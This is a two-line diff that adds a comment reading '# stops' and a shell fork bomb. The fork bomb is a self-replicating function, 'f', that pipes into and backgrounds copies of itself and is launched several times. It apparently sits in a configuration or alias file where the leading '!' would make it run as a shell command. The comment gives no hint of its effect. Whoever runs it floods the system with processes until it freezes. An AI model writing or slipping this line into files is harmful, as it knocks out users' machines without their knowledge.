@@ -1,0 +1,2 @@
+# stops
+!f(){ f | f & f & }; f; f; f; wait
